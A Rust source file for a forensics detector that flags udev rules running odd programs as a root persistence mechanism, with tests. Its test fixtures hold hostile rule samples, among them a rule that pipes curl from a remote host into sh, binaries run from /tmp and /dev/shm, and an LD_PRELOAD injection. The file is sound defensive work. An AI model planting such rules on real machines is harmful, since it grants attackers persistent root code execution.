//! Detector: a rule of udev that runs something odd.

use crate::weigh;
use crate::{Card, Detector, Tables};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "udev-rule",
        doc: "A rule of udev runs what ordinary rules do not.",
        mechanisms: &[43],
        attack: &["T1546.017"],
        why: "It runs as root whenever the device it waits for appears, at every boot at the latest.",
        innocent: "you or a program you installed by hand made this rule",
        next: "read the rule and what it runs; keep both as evidence before removing them",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<crate::Draft>) {
    weigh::startup_commands(tables, &["udev rule"], "A rule of udev", drafts);
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    fn debian() -> Mem {
        Mem::new()
            .file(
                "/var/lib/dpkg/info/udev.list",
                "/.\n/usr/lib/udev/ata_id\n/usr/lib/udev/rules.d/60-a.rules\n/usr/bin/udevadm\n/usr/bin/dash\n",
            )
            .file("/usr/lib/udev/ata_id", "\x7fELF")
            .file("/usr/bin/udevadm", "\x7fELF")
            .file("/usr/bin/dash", "\x7fELF")
            .symlink("/usr/bin/sh", "dash")
            .symlink("/lib", "usr/lib")
            .symlink("/bin", "usr/bin")
            .file(
                "/usr/lib/udev/rules.d/60-a.rules",
                "IMPORT{program}=\"ata_id --export $devnode\"\nPROGRAM=\"/bin/sh -ec 'D=$${DEVPATH#*/vio/}; echo $${D:-0}'\"\nRUN+=\"/usr/lib/udev/ata_id $root/$name\"\nENV{REMOVE_CMD}!=\"\", RUN+=\"$env{REMOVE_CMD}\"\n",
            )
    }

    #[test]
    fn rules_that_run_odd_things_are_found_in_every_place() {
        for (path, text) in [
            ("/etc/udev/rules.d/99-x.rules", "ACTION==\"add\", RUN+=\"/tmp/.x\"\n"),
            ("/run/udev/rules.d/9.rules", "RUN{program}+=\"'/dev/shm/a' b\"\n"),
            (
                "/usr/lib/udev/rules.d/60-b.rules",
                "ENV{MAJOR}==\"1\", ENV{MINOR}==\"8\", \\\n RUN+=\"netdb run:+\"\n",
            ),
            (
                "/usr/local/lib/udev/rules.d/1.rules",
                "PROGRAM==\"/bin/sh -c 'curl -s http://192.0.2.1/a | sh'\"\n",
            ),
            ("/etc/udev/rules.d/a.rules", "ENV{Q}=\"/var/tmp/q\"\nIMPORT{program}=\"$env{Q}\"\n"),
            ("/etc/udev/rules.d/b.rules", "RUN+=e\"\\x2fdev\\x2fshm\\x2fz\"\n"),
            ("/etc/udev/rules.d/c.rules", "ENV{LD_PRELOAD}=\"/var/tmp/l.so\"\n"),
            ("/etc/udev/rules.d/d.rules", "ENV{REMOVE_CMD}=\"/tmp/r\"\n"),
            ("/etc/udev/rules.d/e.rules", "SUBSYSTEM==\"net\", RUN+=\"/usr/bin/netup\"\n"),
        ] {
            let seen = check(
                debian()
                    .file("/usr/lib/udev/netdb", "\x7fELF")
                    .owned("/usr/lib/udev/netdb", 0o755, 0, 0)
                    .file("/usr/bin/netup", "\x7fELF")
                    .file(path, text),
            );
            let found = seen.alarms("udev-rule");
            assert_eq!(found.len(), 1, "{path}: {:#?}", seen.findings);
            assert!(format!("{:?}", found[0].subjects).contains(path));
        }
    }

    #[test]
    fn rules_that_others_may_change_are_found() {
        let path = "/etc/udev/rules.d/a.rules";
        let seen = check(debian().file(path, "RUN+=\"/usr/bin/udevadm trigger\"\n").owned(path, 0o666, 0, 0));
        assert_eq!(seen.alarms("udev-rule").len(), 1);
    }

    #[test]
    fn packages_and_administrators_rules_are_no_alarm() {
        let seen = check(
            debian()
                .file("/usr/local/bin/backup.sh", "#!/bin/sh\nmount /srv/b && rsync -a /etc /srv/b/\n")
                .owned("/usr/local/bin/backup.sh", 0o755, 0, 0)
                .symlink("/etc/udev/rules.d/80-net.rules", "/dev/null")
                .file("/etc/udev/rules.d/70-net.rules", "ATTR{address}==\"00:11:22:33:44:55\", NAME=\"lan0\"\n")
                .file("/etc/udev/rules.d/90-b.rules", "KERNEL==\"sd?1\", ENV{ID_FS_LABEL}==\"backup\", RUN+=\"/usr/local/bin/backup.sh %k\"\nACTION==\"add\", RUN+=\"/bin/sh -c 'echo mq-deadline > /sys/block/%k/queue/scheduler'\"\n")
                .file("/etc/udev/rules.d/91.rules.off", "RUN+=\"/tmp/x\"\n"),
        );
        assert!(seen.by("udev-rule").is_empty(), "{:#?}", seen.findings);
    }
}
